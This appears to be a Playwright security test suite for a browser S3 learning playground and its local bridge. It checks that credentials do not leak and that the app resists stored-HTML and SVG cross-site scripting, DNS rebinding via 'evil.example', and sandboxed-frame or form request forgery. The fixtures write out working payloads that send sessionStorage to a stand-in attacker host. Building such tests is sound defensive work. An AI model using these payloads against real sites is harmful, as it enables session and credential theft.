import { readFile } from 'node:fs/promises';
import { expect, type Page } from '@playwright/test';
import { strFromU8, unzipSync } from 'fflate';
import { launchOptions } from '../../scripts/browser/browser.ts';
import { told } from '../../scripts/e2e/environment.ts';
import { unpack } from '../../src/playground/share-format.ts';
import { victim } from './attacks/hostile-s3.ts';
import { lookFromTab } from './attacks/tabs.ts';
import { type Attacked, bucket, startAttacked } from './attacks/victim.ts';
import { workbenchOf } from './landmarks.ts';
import { blockNamed, output, test } from './page.ts';

const [accessKeyId, ...secrets] = Object.values(victim);
let attacked: Attacked;

test.beforeAll(async ({ baseURL }) => {
  attacked = await startAttacked(baseURL);
});
test.afterAll(() => attacked.stop());

const expectNoKey = (text: string) => {
  for (const key of [accessKeyId, ...secrets]) expect(text).not.toContain(key);
};

/** Opens code by a link, and makes it the reader's own, as a reader does who has read it. */
async function takeCode(page: Page, code: string): Promise<void> {
  await page.evaluate((text) => void (location.hash = `code=${encodeURIComponent(text)}`), code);
  await page.locator('[data-action="take"]').click();
}

const presigning = `import { CreateBucketCommand, GetObjectCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { createPresignedPost } from '@aws-sdk/s3-presigned-post';
import { getSignedUrl } from '@aws-sdk/s3-request-presigner';
const s3 = new S3Client({ region: 'us-east-1' });
const Bucket = 'my-social-app';
await s3.send(new PutObjectCommand({ Bucket, Key: 'shared.txt', Body: 'shared' }));
const url = await getSignedUrl(s3, new GetObjectCommand({ Bucket, Key: 'shared.txt' }), { expiresIn: 60 });
const answer = await fetch(url);
console.log('read', answer.status, await answer.text());
const put = await getSignedUrl(s3, new PutObjectCommand({ Bucket, Key: 'put.txt' }), { expiresIn: 60 });
console.log('put', (await fetch(put, { method: 'PUT', body: 'put' })).status);
console.log('other', (await fetch(url.replace('shared', 'x'))).status);
const form = await createPresignedPost(s3, { Bucket, Key: 'posted.txt', Expires: 60 });
const data = new FormData();
for (const [name, value] of Object.entries(form.fields)) data.append(name, value);
data.append('file', new Blob(['posted']), 'posted.txt');
console.log('posted', (await fetch(form.url, { method: 'POST', body: data })).status);
console.log('«' + url + '»');
`;

for (const way of ['direct', 'bridge'] as const) {
  test(`${way}: what a program presigns works, for others too, and shows no secret`, async ({ page }) => {
    await page.goto('playground/');
    await attacked.connect(page, way);
    await takeCode(page, presigning);
    const block = blockNamed(page, 'Playground');
    await block.getByRole('button', { name: 'Run', exact: true }).click();
    await expect(block).toHaveAttribute('data-run-state', 'done');
    const shown = await output(block);
    for (const line of ['read 200 shared', 'put 200', 'other 403', 'posted 204'])
      expect(shown).toContain(line);
    expect(shown).not.toContain(victim.secretAccessKey);
    const url = /«(\S+)»/.exec(shown)?.[1] ?? '';
    // Whoever has the address needs no keys; by design, it contains the session token and the access key ID.
    expect(url).toContain(encodeURIComponent(victim.sessionToken));
    expect(await (await fetch(url)).text()).toBe('shared');
    expect(await (await attacked.hostile.asOwner('GET', `/${bucket}/posted.txt`)).text()).toBe('posted');
  });
}

test('another tab learns nothing, while requests are sent', async ({ page, context }) => {
  await page.goto('lessons/first-requests/');
  await attacked.connect(page, 'direct');
  const other = await context.newPage();
  await other.goto('lessons/what-is-s3/');
  const looking = lookFromTab(other);
  const block = blockNamed(page, 'Upload a profile picture');
  await block.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(block).toHaveAttribute('data-run-state', 'done');
  expectNoKey(await looking);
  expectNoKey(await lookFromTab(other));
  // A tab that this one opens would get a copy of its session storage, if it were not opened with `noopener`.
  const openers = await page.evaluate(
    () =>
      [...document.querySelectorAll('a[target]')].filter(
        (link) =>
          (link as HTMLAnchorElement).rel.includes('opener') &&
          !(link as HTMLAnchorElement).rel.includes('noopener'),
      ).length,
  );
  expect(openers).toBe(0);
});

test('a program that still runs when the keys are forgotten gets nothing more', async ({ page }) => {
  await page.goto('playground/');
  await attacked.connect(page, 'direct');
  const code = `import { ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
const s3 = new S3Client({ region: 'us-east-1', maxAttempts: 1 });
for (let turn = 0; turn < 200; turn += 1) {
  try { await s3.send(new ListObjectsV2Command({ Bucket: 'my-social-app' })); if (turn === 0) console.log('before'); }
  catch (error) { console.log('after', error.name, error.message); break; }
  await new Promise((resolve) => setTimeout(resolve, 100));
}`;
  const block = blockNamed(page, 'Playground');
  await takeCode(page, code);
  await block.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(block.getByRole('log', { name: 'Output' })).toContainText('before');
  await page.getByRole('button', { name: /^Connection:/ }).click();
  await page.getByRole('button', { name: 'Forget keys' }).click();
  // A request that is under way when the keys are forgotten ends; the next one is refused.
  await expect(block.getByRole('log', { name: 'Output' })).toContainText(
    /after (AccessDenied|AbortError The connection to your own S3 was closed)/,
  );
});

test('a link and a project hold the code, and nothing of the connection', async ({ page }) => {
  await page.goto('playground/');
  await attacked.connect(page, 'direct');
  await page.getByRole('button', { name: 'Share' }).click();
  const link = await page.getByRole('textbox', { name: /link/i }).inputValue();
  expectNoKey(JSON.stringify(unpack(new URL(link).hash.replace('#v1=', ''))) + link);
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download' }).click();
  const zip = unzipSync(await readFile(await (await downloading).path()));
  expect(Object.keys(zip).length).toBeGreaterThan(1);
  for (const [name, bytes] of Object.entries(zip)) expectNoKey(`${name} ${strFromU8(bytes)}`);
});

test('objects that are pages and pictures do nothing when they are looked at', async ({ page }) => {
  const script = `fetch('${attacked.hostile.elsewhere}/from-object?' + encodeURIComponent(JSON.stringify(Object.entries(top.sessionStorage))))`;
  await attacked.hostile.asOwner(
    'PUT',
    `/${bucket}/a-page.html`,
    `<h1>A page</h1><script>${script}</script><img src="${attacked.hostile.elsewhere}/picture" onerror="${script.replaceAll('"', '')}"><link rel="stylesheet" href="${attacked.hostile.elsewhere}/style"><iframe src="${attacked.hostile.elsewhere}/frame"></iframe><meta http-equiv="refresh" content="0;url=${attacked.hostile.elsewhere}/refresh"><a href="javascript:${script.replaceAll('"', '')}">link</a>`,
    { 'content-type': 'text/html' },
  );
  await attacked.hostile.asOwner(
    'PUT',
    `/${bucket}/b-picture.svg`,
    `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90" onload="${script.replaceAll('"', '').replaceAll('&', '&amp;')}"><script>${script.replaceAll('&', '&amp;')}</script><image href="${attacked.hostile.elsewhere}/svg-image"/><rect width="90" height="90" fill="green"/></svg>`,
    { 'content-type': 'image/svg+xml' },
  );
  const before = attacked.hostile.caught.length;
  await page.goto('lessons/first-requests/');
  await attacked.connect(page, 'direct');
  const workbench = workbenchOf(page);
  await workbench.getByRole('tab', { name: 'Buckets' }).click();
  await workbench.getByText('a-page.html').first().click();
  await workbench.getByRole('button', { name: 'Render' }).click();
  const rendered = workbench.frameLocator('iframe').frameLocator('iframe');
  await expect(rendered.getByRole('heading', { name: 'A page' })).toBeVisible();
  await rendered.getByText('link').click();
  await page.goto('lessons/first-requests/');
  await workbench.getByRole('tab', { name: 'Buckets' }).click();
  await workbench.getByText('b-picture.svg').first().click();
  await expect(workbench.getByRole('img', { name: /b-picture/ })).toBeVisible();
  // This request comes after everything that a page or a picture may have sent.
  await page.evaluate(async (url) => (await fetch(`${url}/last`)).ok, attacked.hostile.elsewhere);
  expect(attacked.hostile.caught.slice(before)).toEqual([expect.stringContaining('GET /last')]);
});

test('a page under a name that points to this machine gets nothing from the bridge', async ({
  playwright,
}) => {
  const browser = told('browser');
  const options = browser && launchOptions(browser);
  const own = await playwright.chromium.launch({
    ...options,
    args: [...(options?.args ?? []), '--host-resolver-rules=MAP evil.example 127.0.0.1'],
  });
  const page = await own.newPage();
  const { port } = new URL(attacked.bridge.url);
  const answers: string[] = [];
  // The name leads to the bridge itself, so that for the browser, the page and the bridge have the same origin.
  const opened = await page.goto(`http://evil.example:${port}/`);
  answers.push(`${opened?.status()} ${await page.content()}`);
  answers.push(
    ...(await page.evaluate(async () => {
      const tries = [
        fetch('/s3', {
          headers: { 'x-learn-s3-token': 'x', 'x-learn-s3-address': 'https://s3.us-east-1.amazonaws.com/' },
        }),
        fetch('/pair', { method: 'POST', body: 'AAAA-AAAA' }),
        fetch('/presign', { method: 'POST', body: '{}' }),
      ];
      return Promise.all(
        tries.map(async (one) => {
          const answer = await one;
          return `${answer.status} ${await answer.text()}`;
        }),
      );
    })),
  );
  for (const answer of answers) expect(answer).toMatch(/^421 .*This bridge answers at 127\.0\.0\.1/s);
  await own.close();
});

test('a sandboxed frame, a form and a page in a frame get nothing from the bridge', async ({ browser }) => {
  // A page of its own, without the check for a clean console: the browser rightly complains there.
  const page = await browser.newPage();
  // The page is on this machine, since the browser would otherwise not let it reach the bridge.
  await page.goto(attacked.hostile.elsewhere);
  const before = attacked.bridge.printed().length;
  const heard = await page.evaluate(async (url) => {
    const results: string[] = [];
    addEventListener('message', ({ data }) => results.push(String(data)));
    const frame = document.createElement('iframe');
    frame.setAttribute('sandbox', 'allow-scripts allow-forms');
    frame.srcdoc = `<form method="post" enctype="text/plain" action="${url}/pair"><input name="AAAA-AAAA"></form><script>
      Promise.all([fetch('${url}/pair', { method: 'POST', body: 'AAAA-AAAA' }), fetch('${url}/s3', { headers: { 'x-learn-s3-token': 'x' } }), fetch('${url}/s3', { mode: 'no-cors' })]
        .map((one) => one.then(async (a) => a.status + ' ' + a.type + ' ' + await a.text(), () => 'none')))
        .then((all) => { parent.postMessage(all.join(' | '), '*'); document.forms[0].submit(); });
    </script>`;
    document.body.append(frame);
    const script = document.createElement('script');
    script.src = `${url}/s3`;
    document.body.append(script);
    const picture = new Image();
    picture.src = `${url}/s3`;
    const eventOf = (target: EventTarget, ...types: string[]) =>
      new Promise((resolve) => types.forEach((type) => target.addEventListener(type, resolve)));
    await Promise.all([
      // The answer to the form is loaded after the frame's own page.
      eventOf(frame, 'load').then(() => eventOf(frame, 'load')),
      eventOf(script, 'load', 'error'),
      eventOf(picture, 'load', 'error'),
    ]);
    return results;
  }, attacked.bridge.url);
  expect(heard).toHaveLength(1);
  for (const one of (heard[0] ?? '').split(' | ')) expect(one).toMatch(/^(none|0 opaque|403 )/);
  const refused = attacked.bridge.printed().slice(before);
  expect(refused).toContain('must name its origin');
  expect(refused).not.toContain('AKIA');
  await page.close();
});
